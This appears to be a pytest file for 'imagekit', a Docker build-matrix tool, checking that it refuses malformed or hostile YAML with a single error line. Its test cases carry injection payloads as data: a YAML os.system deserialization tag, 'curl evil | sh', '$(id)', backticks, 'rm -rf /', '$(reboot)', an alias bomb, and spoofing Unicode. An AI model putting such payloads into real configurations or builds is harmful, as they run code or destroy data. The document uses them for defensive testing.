"""plan: the bad-input corpus (each case one clear line naming the place, exit 2, nothing written,
whether `plan` or `render` reads it), and what a matrix's paths may not lead to."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from testbed.imagekit_process import imagekit
from tests.conftest import CUDA_BASE as BARE_CUDA_BASE
from tests.conftest import run_cli
from tests.unit.cli.samples import (
    CUDA_BASE,
    GOOD_AXES,
    LOCAL_BASE,
    LinkCase,
    assert_no_read_or_write_outside,
    link,
    on_matrix,
)

CASES: dict[str, tuple[str, str]] = {
    "yaml syntax": ("axes:\n  torch: [2.1\n", "matrix.yaml:3:1: YAML syntax error"),
    "tab indentation": ("axes:\n\ttorch: [2.1]\n", "matrix.yaml:2:1: YAML syntax error"),
    "top level list": ("- torch\n- cuda\n", "the top level is a list"),
    "top level scalar": ("just a string\n", "the top level is a str"),
    "empty file": ("", "the top level is empty"),
    "unknown top key": (GOOD_AXES + CUDA_BASE + "axis: {}\n", "axis: unknown key; did you mean 'axes'?"),
    "unknown base key": (
        GOOD_AXES + "bases:\n  cuda:\n    imgae: x\n    os: ubuntu22.04\n",
        "matrix.yaml:6:5: bases.cuda.imgae: unknown key; did you mean 'image'?",
    ),
    "unknown include key": (
        GOOD_AXES + CUDA_BASE + "include:\n  - {torhc: 2.2.2}\n",
        "include[0].torhc: unknown key; did you mean 'torch'?",
    ),
    "axis not a list": ('axes:\n  torch: "2.1.2"\n' + CUDA_BASE, "axes.torch: Input should be a valid list"),
    "wrong type bool": (
        GOOD_AXES + CUDA_BASE + "allow_unknown: maybe\n",
        "allow_unknown: Input should be a valid boolean",
    ),
    "empty axis": ("axes:\n  torch: []\n" + CUDA_BASE, "axes.torch: is empty"),
    "duplicate values": (
        'axes:\n  torch: ["2.1.2", 2.1.2]\n' + CUDA_BASE,
        "value '2.1.2' at index 1 is listed twice",
    ),
    "no bases": (GOOD_AXES + "bases: {}\n", "bases: define at least one base"),
    "bad version": ('axes:\n  torch: ["two"]\n' + CUDA_BASE, "axes.torch[0]: 'two' is not a torch version"),
    "python object tag": (
        "axes:\n  torch: !!python/object/apply:os.system ['touch pwned']\n" + CUDA_BASE,
        "matrix.yaml:2:10: YAML tag tag:yaml.org,2002:python/object/apply:os.system is not allowed",
    ),
    "alias bomb": (
        "\n".join(
            ['a: &a ["x","x","x","x","x","x","x","x","x","x"]']
            + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}' if i > 1 else '*a'] * 10)}]" for i in range(1, 8)]
        )
        + "\n",
        "an alias bomb?",
    ),
    "newline in env value": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  env: {A: "x\\nRUN curl evil | sh"}\n',
        "defaults.env.A: 'x\\nRUN curl evil | sh' holds a newline",
    ),
    "quote in label-bound value": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  env: {A: 'a\"b'}\n",
        "holds a quote",
    ),
    "command substitution": (
        GOOD_AXES + CUDA_BASE + 'include:\n  - {pip_packages: ["numpy$(id)"]}\n',
        "include[0].pip_packages[0]: 'numpy$(id)' holds '$('",
    ),
    "backtick": (GOOD_AXES + CUDA_BASE + "include:\n  - {apt_packages: ['git`id`']}\n", "holds a backtick"),
    "space in python": (
        'axes:\n  torch: ["2.1.2"]\n  python: ["3.10 && rm -rf /"]\n' + CUDA_BASE,
        "holds a space",
    ),
    "hostile base image": (
        GOOD_AXES + 'bases:\n  cuda:\n    image: "nvidia/cuda:12.1.1\\nRUN id"\n    os: ubuntu22.04\n',
        "bases.cuda.image:",
    ),
    "hostile tag pattern": (
        GOOD_AXES + CUDA_BASE + 'publish:\n  tags:\n    readable: "a b"\n',
        "publish.tags.readable: 'a b' holds a space",
    ),
    "hostile mirror url": (
        GOOD_AXES + CUDA_BASE + "sources:\n  apt:\n    mirror: 'http://m/$(reboot)'\n",
        "sources.apt.mirror:",
    ),
    "unknown base name": (
        'axes:\n  torch: ["2.1.2"]\n  cuda: ["12.1"]\n  base: [nope]\n' + CUDA_BASE,
        "names base 'nope'",
    ),
    "unknown placeholder": (
        GOOD_AXES + 'bases:\n  cuda:\n    image: "nvidia/cuda:{cuda_ful}-devel"\n    os: ubuntu22.04\n',
        "unknown placeholder {cuda_ful}",
    ),
    "unknown stack": ("axes:\n  base: [n]\nbases:\n  n: {stack: ngc-99.99}\n", "unknown stack 'ngc-99.99'"),
    "all refused": (
        'axes:\n  torch: ["2.9.1"]\n  cuda: ["11.8"]\n' + CUDA_BASE,
        "no buildable cell; first refusal: torch=2.9.1, cuda=11.8",
    ),
    "version not 1": ("version: 2\n" + GOOD_AXES + CUDA_BASE, "version: must be 1"),
    "tag collision": (
        'axes:\n  torch: ["2.4.1"]\n  cuda: ["12.1"]\n  python: ["3.10", "3.11"]\n' + CUDA_BASE,
        "would share the tag '2.4.1-cuda12.1-cudnn9-devel-ubuntu22.04'; add {python}",
    ),
    "placeholder attribute access": (
        GOOD_AXES + CUDA_BASE + 'publish:\n  tags:\n    readable: "{torch.__class__}"\n',
        "unknown placeholder {torch.__class__}",
    ),
    "secret-looking build arg": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  build_args: {PIP_TOKEN: abc}\n",
        "defaults.build_args.PIP_TOKEN: build argument 'PIP_TOKEN' looks like a secret",
    ),
    "secret-looking ENV (baked into every layer)": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  env: {HF_TOKEN: abc}\n",
        "defaults.env.HF_TOKEN: environment variable 'HF_TOKEN' looks like a secret",
    ),
    "secret-looking ENV in an include": (
        GOOD_AXES + CUDA_BASE + "include:\n  - {torch: '2.4.1', env: {JUPYTER_TOKEN: x, PIP_PASSWORD: y}}\n",
        "looks like a secret",
    ),
    "secret-looking local base arg": (
        GOOD_AXES
        + BARE_CUDA_BASE
        + "  deb:\n    image: x/y:1\n    os: debian12\n    build: {context: b, args: {API_KEY: k}}\n",
        "looks like a secret",
    ),
    "torch index placeholder": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    torch_index_url: 'https://x/{variant.__class__}'\n",
        "may use only the {variant} placeholder",
    ),
    "no_index without a wheelhouse": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    no_index: true\n",
        "no_index: true installs only from find_links",
    ),
    "cuda_full not a version": (
        GOOD_AXES + CUDA_BASE + "defaults: {cuda_full: cpu}\n",
        "not a full CUDA version",
    ),
    "template syntax error": (
        GOOD_AXES + CUDA_BASE + "templates: .\n",
        "template error",
    ),
    "find_links escapes": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    find_links: [../../etc]\n",
        "must stay inside",
    ),
    # sizes: every string is bounded, a number too, and nesting is refused before it recurses
    "huge env value": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  env: {A: " + "a" * 300_000 + "}\n",
        "defaults.env.A: is 300,000 characters long; plain text has at most 4,096",
    ),
    "huge pip requirement": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  pip_packages: [" + "n" * 5_000 + "]\n",
        "defaults.pip_packages[0]: is 5,000 characters long",
    ),
    "huge apt package": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  apt_packages: [" + "g" * 5_000 + "]\n",
        "defaults.apt_packages[0]: is 5,000 characters long",
    ),
    "huge base image": (
        GOOD_AXES + "bases:\n  cuda:\n    image: " + "a" * 300 + ":1\n    os: ubuntu22.04\n",
        "bases.cuda.image: is 302 characters long; an image reference has at most 255",
    ),
    "registry port past 65535": (
        GOOD_AXES + CUDA_BASE + "publish:\n  registry: 'ghcr.io:99999'\n",
        "publish.registry: 'ghcr.io:99999': port 99999 is past 65535",
    ),
    "registry port of eight digits": (
        GOOD_AXES + CUDA_BASE + "publish:\n  registry: 'ghcr.io:99999999'\n",
        "publish.registry: 'ghcr.io:99999999' is not a registry host[:port]",
    ),
    "5,000-digit torch version": (
        'axes:\n  torch: ["2.1.' + "1" * 5_000 + '"]\n  cuda: ["12.1"]\n' + CUDA_BASE,
        "axes.torch[0]: ",
    ),
    "5,000-digit schema version": ("version: " + "1" * 5_000 + "\n" + GOOD_AXES + CUDA_BASE, "version: "),
    "deep nesting": ("[" * 20_000, "nesting deeper than 64 levels"),
    "deep mapping": ("a:\n" + "".join("  " * i + "b:\n" for i in range(1, 80)), "nesting deeper than 64"),
    "8 million combinations": (
        "axes:\n"
        + "".join(
            f"  {axis}: [{', '.join(repr(f'{prefix}.{i}') for i in range(200))}]\n"
            for axis, prefix in (("torch", "2"), ("cuda", "12"), ("python", "3"))
        )
        + CUDA_BASE,
        "the matrix makes 8,000,000 combinations (200 x 200 x 200); imagekit plans at most 10,000",
    ),
    # secrets: a credential in any URL is refused, and never repeated in the error
    "password in index url": (
        GOOD_AXES
        + CUDA_BASE
        + "sources:\n  pip:\n    index_url: 'https://alice:s3cret@pypi.example.org/s'\n",
        "sources.pip.index_url: 'https://***@pypi.example.org/s' holds credentials",
    ),
    "user in mirror url": (
        GOOD_AXES + CUDA_BASE + "sources:\n  apt:\n    mirror: 'http://alice@deb.example.org/debian'\n",
        "holds credentials (a login before the @ of a URL); imagekit never writes a credential",
    ),
    "password in torch index url": (
        GOOD_AXES
        + CUDA_BASE
        + "sources:\n  pip:\n    torch_index_url: 'https://u:s3cret@x.example/whl/{variant}'\n",
        "fill a wheelhouse on the host",
    ),
    "token in extra index query": (
        GOOD_AXES
        + CUDA_BASE
        + "sources:\n  pip:\n    extra_index_urls: ['https://x.example/s?token=s3cret']\n",
        "query parameter 'token' looks like a credential",
    ),
    "credential url in an env value": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  env: {PIP_INDEX_URL: 'https://u:s3cret@x.example/s'}\n",
        "defaults.env.PIP_INDEX_URL: 'https://***@x.example/s' holds credentials",
    ),
    "credential url in a build argument": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  build_args: {INDEX: 'https://u:s3cret@x.example/s'}\n",
        "holds credentials",
    ),
    "credential url where a choice is expected": (
        GOOD_AXES + CUDA_BASE + "publish:\n  policy: 'https://u:s3cret@x.example/s'\n",
        "publish.policy: Input should be 'gpu-validated', 'checked' or 'built' (got 'https://***@x.example/s')",
    ),
    "password in a registry without a scheme": (
        GOOD_AXES + CUDA_BASE + "publish:\n  registry: 'ci:s3cret@ghcr.io'\n",
        "publish.registry: '***@ghcr.io' is not a registry host[:port]",
    ),
    # invisible and look-alike characters
    "right-to-left override in env": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  env: {A: "abc\\u202edef"}\n',
        "defaults.env.A: 'abc\\u202edef' holds U+202E RIGHT-TO-LEFT OVERRIDE",
    ),
    "zero-width space in env": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  env: {A: "ab\\u200bc"}\n',
        "holds U+200B ZERO WIDTH SPACE",
    ),
    "fullwidth dollar in env": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  env: {A: "\\uff04(id)"}\n',
        "holds U+FF04 FULLWIDTH DOLLAR SIGN",
    ),
    "zero-width joiner in a pip package": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  pip_packages: ["num\\u200dpy"]\n',
        "holds U+200D ZERO WIDTH JOINER",
    ),
    "bidi control in a tag pattern": (
        GOOD_AXES + CUDA_BASE + 'publish:\n  tags:\n    readable: "{torch}\\u2066x"\n',
        "publish.tags.readable: ",
    ),
    "cyrillic look-alike in a base name": (
        'axes:\n  torch: ["2.1.2"]\n  cuda: ["12.1"]\n  base: ["\\u0441uda"]\n' + CUDA_BASE,
        "U+0441 CYRILLIC SMALL LETTER ES",
    ),
    # semantics the table and the plan can decide before anything is built
    "version true": ("version: true\n" + GOOD_AXES + CUDA_BASE, "version: must be 1, not a boolean"),
    "allow_unknown and a missing patch": (
        'allow_unknown: true\naxes:\n  torch: ["2.1.9"]\n  cuda: ["12.1"]\n' + CUDA_BASE,
        "torch 2.1.9 is not a 2.1 release (its patches: 2.1.0, 2.1.1, 2.1.2)",
    ),
    "an unknown CUDA patch": (
        'axes:\n  torch: ["2.1.2"]\n  cuda: ["12.1.9"]\n' + CUDA_BASE,
        "CUDA 12.1.9 is not the toolkit imagekit builds CUDA 12.1 on (nvidia/cuda 12.1.1)",
    ),
    "torch in pip_packages": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  pip_packages: [torch==2.0.0]\n",
        "pip_packages lists torch==2.0.0: torch, torchvision and torchaudio come from the matrix",
    ),
    "an immutable tag two cells share": (
        'axes:\n  torch: ["2.1.2", "2.5.1"]\n  cuda: ["12.1"]\n'
        + CUDA_BASE
        + 'publish:\n  tags:\n    immutable: ["{readable}-{digest}", "nightly-{date}"]\n',
        "publish.tags.immutable[1]: 'nightly-{date}' gives cells cuda-torch2.1.2-cuda12.1-py3.10-devel and"
        " cuda-torch2.5.1-cuda12.1-py3.10-devel (every cell of a run) the same tag ('nightly-20000101')",
    ),
    "a constant immutable tag": (
        'axes:\n  torch: ["2.1.2", "2.5.1"]\n  cuda: ["12.1"]\n'
        + CUDA_BASE
        + 'publish:\n  tags:\n    readable: "{torch}"\n    immutable: ["2.5.1"]\n',
        "'2.5.1' gives cells cuda-torch2.1.2-cuda12.1-py3.10-devel and cuda-torch2.5.1",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_bad_input_is_one_line_exit_2_and_writes_nothing(
    case: str, write_matrix: Callable[[str], Path], tmp_path: Path
) -> None:
    text, expected = CASES[case]
    path = write_matrix(text)
    (path.parent / "Dockerfile.j2").write_text("FROM {{ cell.base_image }\n")  # used by `templates: .`
    out = tmp_path / "out"
    for args in (("plan", "--matrix", str(path)), ("render", "--matrix", str(path), "--out", str(out))):
        result = run_cli(*args)
        assert result.exit_code == 2, (case, args, result)
        lines = result.stderr.strip().splitlines()
        errors = [line for line in lines if line.startswith("imagekit: error:")]
        assert len(errors) == 1, result.stderr
        assert expected in errors[0], errors[0]
        assert "Traceback" not in result.stderr + result.stdout
        assert "s3cret" not in result.stderr + result.stdout  # a credential is never repeated
        assert len(errors[0]) < 1_000  # a huge value is not repeated either
    assert not out.exists(), "a refused matrix must not write a single file"


def test_missing_file_and_directory(tmp_path: Path) -> None:
    missing = run_cli("plan", "--matrix", str(tmp_path / "nope.yaml"))
    assert missing.exit_code == 2
    assert "no such file" in missing.stderr


def test_not_utf8(tmp_path: Path) -> None:
    path = tmp_path / "m.yaml"
    path.write_bytes(b"axes:\n  torch: [\xff]\n")
    result = run_cli("plan", "--matrix", str(path))
    assert result.exit_code == 2
    assert "not UTF-8" in result.stderr


def test_python_tag_never_executes(tmp_path: Path) -> None:
    """The real process, not only the function: the payload must not run."""
    marker = tmp_path / "pwned"
    path = tmp_path / "m.yaml"
    path.write_text(f"axes: !!python/object/apply:os.system ['touch {marker}']\n", encoding="utf-8")
    done = imagekit("plan", "--matrix", str(path), timeout=60)
    assert done.returncode == 2
    assert not marker.exists()
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr


def test_exclude_matching_nothing_is_a_warning(write_matrix: Callable[[str], Path]) -> None:
    path = write_matrix(GOOD_AXES + CUDA_BASE + 'exclude:\n  - {torch: "2.4.1"}\n')
    result = run_cli("plan", "--matrix", str(path))
    assert result.exit_code == 0
    assert "imagekit: warning: " in result.stderr and "exclude[0] matches no combination" in result.stderr


def test_two_spellings_of_one_release_are_one_cell(write_matrix: Callable[[str], Path]) -> None:
    path = write_matrix('axes:\n  torch: ["2.1", "2.1.2"]\n  cuda: ["12.1"]\n' + CUDA_BASE)
    result = run_cli("plan", "--matrix", str(path))
    assert result.exit_code == 2 and "two axis values make the same cell" in result.stderr


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero", "directory", "over-long name"])
def test_a_matrix_that_is_no_regular_file_is_refused_at_once(kind: str, tmp_path: Path) -> None:
    """The real process, with a timeout: a FIFO must not block and /dev/zero must not fill memory."""
    path = {"fifo": tmp_path / "fifo", "/dev/zero": Path("/dev/zero"), "directory": tmp_path / "d"}.get(
        kind, tmp_path / ("m" * 300)
    )
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    done = imagekit("plan", "--matrix", str(path), timeout=30)
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith("imagekit: error: ") and done.stderr.count("\n") == 1, done.stderr


# -- symbolic links: nothing read from outside what was asked ------------------------------------

LINK_CASES: dict[str, LinkCase] = {
    "base context linked outside": (
        LOCAL_BASE,
        link("ctx", "secret"),
        on_matrix("plan"),
        "bases.deb.build.context: ",
    ),
    "templates linked outside": (
        GOOD_AXES + CUDA_BASE + "templates: tpl\n",
        link("tpl"),
        on_matrix("plan"),
        "templates: ",
    ),
    "wheelhouse linked outside": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    find_links: [wh]\n",
        link("wh"),
        on_matrix("plan"),
        "sources.pip.find_links[0]: ",
    ),
}


@pytest.mark.parametrize("case", sorted(LINK_CASES))
def test_links_never_lead_a_read_or_a_write_outside(case: str, tmp_path: Path) -> None:
    assert_no_read_or_write_outside(LINK_CASES[case], tmp_path)
